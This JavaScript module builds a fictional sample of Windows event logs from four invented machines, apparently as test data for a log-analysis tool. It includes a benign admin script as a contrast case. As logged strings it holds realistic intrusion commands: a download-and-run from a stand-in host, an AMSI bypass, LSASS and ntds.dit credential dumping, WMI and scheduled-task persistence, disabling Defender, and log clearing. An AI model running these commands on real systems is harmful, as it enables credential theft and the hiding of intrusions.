// The built-in sample: logs of four invented machines that tell one story, with a morning's ordinary work around it.
//
// Mara's workstation WS17 opens a document; what comes with it switches off the guards, takes credentials, turns on
// remoting on the file server FS03, settles there, reaches the domain controller DC01 and clears its logs. Meanwhile
// an administrator on ADM02 turns on remoting too, for a good reason. Nothing in it is real or works.

import { eventsXml } from "../../scripts/events.mjs";
import { cutOff, events, other, root } from "./logs.mjs";
import { ordinary } from "./ordinary.mjs";

const MARA = "S-1-5-21-1843928450-2190336711-405128733-1617";
const BACKUP = "S-1-5-21-1843928450-2190336711-405128733-1121";
const ADMIN = "S-1-5-21-1843928450-2190336711-405128733-1103";
const SYSTEM = "S-1-5-18";

/** Returns the log files of the story, as `wevtutil qe` would write them. @returns {{ name: string, text: string }[]} */
export function story() {
  return [
    {
      name: "ADM02/PowerShell-Operational.xml",
      text: root(eventsXml(events("ADM02.corp.example", 88_104, [...ordinary(2, ADMIN, 160), ...provisioning()]))),
    },
    {
      name: "DC01/PowerShell-Operational.xml",
      text: root(eventsXml(events("DC01.corp.example", 40_211, [...ordinary(3, SYSTEM, 90), ...controller()]))),
    },
    { name: "DC01/Security.xml", text: root(security()) },
    {
      name: "FS03/PowerShell-Operational.xml",
      text: cutOff(eventsXml(events("FS03.corp.example", 51_870, [...ordinary(5, SYSTEM, 120), ...server()]))),
    },
    {
      name: "WS17/PowerShell-Operational.xml",
      text: root(eventsXml(events("WS17.corp.example", 10_342, [...ordinary(7, MARA, 70), ...workstation()]))),
    },
  ];
}

/** @typedef {import("./logs.mjs").LoggedScript} LoggedScript */

/** Where it begins. @returns {LoggedScript[]} */
function workstation() {
  const said = (/** @type {string} */ clock, /** @type {string} */ text, level = 3) => ({
    clock,
    user: MARA,
    level,
    text,
  });
  return [
    said(
      "05:41:07.2214408",
      "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoProfile -EncodedCommand SQBFAFgAIAAoACQAZQBuAHYAOgBVAFAARABBAFQARQApAA=='",
    ),
    said(
      "05:41:09.0470112",
      "IEX (New-Object Net.WebClient).DownloadString('http://updates.contoso-cdn.example/u/7f3/a.ps1')",
    ),
    said(
      "05:41:12.6101933",
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    ),
    said(
      "05:44:31.5590020",
      "Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name, OperatingSystem\r\nGet-ADGroupMember 'Domain Admins' -Recursive | Select-Object SamAccountName",
      5,
    ),
    // Its name reads invoice.sp1.pdf on most screens.
    said(
      "05:46:02.9310777",
      'Copy-Item "$env:TEMP\\u7f3.tmp" "$env:APPDATA\\invoice\u202efdp.1sp.ps1"\r\nStart-Process powershell.exe -WindowStyle Hidden -ArgumentList "-File", "$env:APPDATA\\invoice\u202efdp.1sp.ps1", "-Quiet\u200b"',
    ),
    said(
      "05:52:40.1187264",
      "Set-MpPreference -DisableRealtimeMonitoring $true\r\nAdd-MpPreference -ExclusionPath 'C:\\ProgramData\\Telemetry'",
    ),
    said(
      "05:58:13.8402217",
      "$lsass = Get-Process lsass\r\nrundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $lsass.Id C:\\ProgramData\\Telemetry\\t.bin full",
    ),
    said(
      "06:12:20.4470306",
      "$cred = New-Object System.Management.Automation.PSCredential('CORP\\svc-backup', $secure)\r\nInvoke-WmiMethod -ComputerName FS03 -Credential $cred -Class Win32_Process -Name Create -ArgumentList 'powershell -c Enable-PSRemoting -Force'",
    ),
    said(
      "06:19:05.0031558",
      "Invoke-Command -ComputerName FS03 -Credential $cred -ScriptBlock { hostname; whoami /all; Get-SmbShare }",
    ),
  ];
}

/** The file server, where it settles. @returns {LoggedScript[]} */
function server() {
  const said = (/** @type {string} */ clock, /** @type {string} */ text, level = 3) => ({
    clock,
    user: BACKUP,
    level,
    text,
  });
  const remoting = "Enable-PSRemoting -Force";
  return [
    said("06:13:52.0830917", remoting, 5),
    said("06:14:07.5520031", remoting, 5),
    said("06:41:07.1200456", remoting, 5),
    { ...said("06:31:18.7305521", loader()), parts: 5, present: [1, 2, 4] },
    said(
      "06:40:02.2718093",
      "$filter = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{ Name = 'TelemetryFilter'; EventNamespace = 'root\\cimv2'; QueryLanguage = 'WQL'; Query = \"SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\" }\r\n" +
        "$consumer = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'TelemetryConsumer'; CommandLineTemplate = 'powershell.exe -NoProfile -File C:\\ProgramData\\Telemetry\\t.ps1' }\r\n" +
        "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }",
    ),
    said(
      "06:44:51.0092244",
      "$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -WindowStyle Hidden -File C:\\ProgramData\\Telemetry\\t.ps1'\r\n$trigger = New-ScheduledTaskTrigger -AtStartup\r\nRegister-ScheduledTask -TaskName 'Telemetry Upload' -Action $action -Trigger $trigger -User 'SYSTEM' -RunLevel Highest",
    ),
    said("06:47:10.6613900", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    said(
      "06:58:33.3301875",
      "Invoke-Command -ComputerName DC01 -ScriptBlock { Enable-PSRemoting -Force; Get-ADDomain }",
    ),
  ];
}

/** The domain controller, where it ends. @returns {LoggedScript[]} */
function controller() {
  const said = (/** @type {string} */ clock, /** @type {string} */ text, level = 3) => ({
    clock,
    user: BACKUP,
    level,
    text,
  });
  return [
    said("06:58:36.9052610", "Enable-PSRemoting -Force; Get-ADDomain", 5),
    said(
      "07:03:19.4480190",
      "vssadmin create shadow /for=C:\r\nCopy-Item '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit' 'C:\\ProgramData\\n.bin'",
    ),
    said(
      "07:06:44.8133378",
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\ProgramData\\l.bin full",
    ),
    said(
      "07:21:58.0217764",
      "Get-WinEvent -ListLog * | Where-Object RecordCount -gt 0 | ForEach-Object { wevtutil.exe cl $_.LogName }\r\nClear-EventLog -LogName Security, System",
    ),
  ];
}

/** The same cmdlet for a good reason. @returns {LoggedScript[]} */
function provisioning() {
  const path = "C:\\Deploy\\Initialize-Server.ps1";
  const text =
    '[CmdletBinding()]\r\nparam([Parameter(Mandatory)] [string[]] $ComputerName)\r\n\r\n# New servers are managed remotely from the first day on (change 48213).\r\nforeach ($computer in $ComputerName) {\r\n    Write-Verbose "Preparing $computer"\r\n    Enable-PSRemoting -Force -SkipNetworkProfileCheck\r\n    Set-Service -Name WinRM -StartupType Automatic\r\n}\r\n';
  return [
    { clock: "04:20:11.3000518", user: ADMIN, level: 5, text, path },
    { clock: "07:45:30.7719242", user: ADMIN, level: 5, text, path },
  ];
}

/** The domain controller's security log after it was cleared. */
function security() {
  const computer = "DC01.corp.example";
  const logons = Array.from({ length: 14 }, (_, i) =>
    other({
      id: 4624,
      computer,
      record: 900_101 + i,
      time: `2026-08-08T07:${22 + i}:${String((i * 17) % 60).padStart(2, "0")}.1180000Z`,
      channel: "Security",
      provider: "Microsoft-Windows-Security-Auditing",
    }),
  );
  const cleared = other({
    id: 1102,
    computer,
    record: 900_100,
    time: "2026-08-08T07:21:58.9031127Z",
    channel: "Security",
    provider: "Microsoft-Windows-Eventlog",
  });
  return [cleared, ...logons].join("");
}

/** Long enough for five parts, of which the log has three. */
function loader() {
  const rows = Array.from({ length: 620 }, (_, i) => `    '${block(i)}',`);
  return [
    "function Invoke-Telemetry {",
    "    param([byte[]] $Payload, [int] $ProcessId)",
    "    $assembly = [System.Reflection.Assembly]::Load($Payload)",
    "    $address = [Win32.Kernel]::VirtualAlloc([IntPtr]::Zero, $Payload.Length, 0x3000, 0x40)",
    "    [System.Runtime.InteropServices.Marshal]::Copy($Payload, 0, $address, $Payload.Length)",
    "    $assembly.GetType('Agent.Program').GetMethod('Main').Invoke($null, @(,[string[]]@('quiet')))",
    "}",
    "",
    "$rows = @(",
    ...rows,
    "    ''",
    ")",
    "",
    "Invoke-Telemetry -Payload ([Convert]::FromBase64String(-join $rows)) -ProcessId $PID",
    "",
  ].join("\r\n");
}

/** Returns meaningless text that looks like base64, the same in every run. @param {number} row */
function block(row) {
  const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  let state = row * 2_654_435_761 + 12_345;
  let text = "";
  for (let i = 0; i < 96; i += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    text += letters[state >>> 26];
  }
  return text;
}
